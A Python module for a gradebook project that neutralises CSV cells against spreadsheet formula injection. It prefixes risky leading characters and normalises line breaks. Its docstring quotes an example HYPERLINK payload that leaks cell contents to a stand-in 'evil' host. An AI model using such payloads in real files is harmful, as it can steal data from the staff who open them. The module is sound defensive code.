"""The one CSV writer for everything the project writes (gradebook.csv, Canvas's gradebook
import): every cell is neutralised against formula injection.

Names, emails, ids and file names come from LMS exports and rosters, so a student can
choose them: ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(...)`` in a name would run
as a formula when staff open the file in a spreadsheet. A cell that begins with one of
OWASP's trigger characters (``=``, ``+``, ``-``, ``@``, tab, carriage return, or their
full-width forms) is prefixed with a single quote, which spreadsheets show as text. A cell
that is a plain number (``-1.5``, ``2e-3``) cannot be a formula and is left alone, so score
columns stay numeric. Line breaks become ``\n`` (quoted by the writer), so no cell can
end a row early.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d",
                    "\uff20")
PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")


def safe_cell(value: object) -> str:
    """``value`` as a CSV cell that no spreadsheet evaluates."""
    # A bare CR is not quoted by a writer whose line end is "\n", and would split the row.
    text = "" if value is None else str(value).replace("\r\n", "\n").replace("\r", "\n")
    if text.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def render_csv(rows: Iterable[Iterable[object]]) -> str:
    """The rows as CSV text (``\\n`` line ends), every cell through ``safe_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
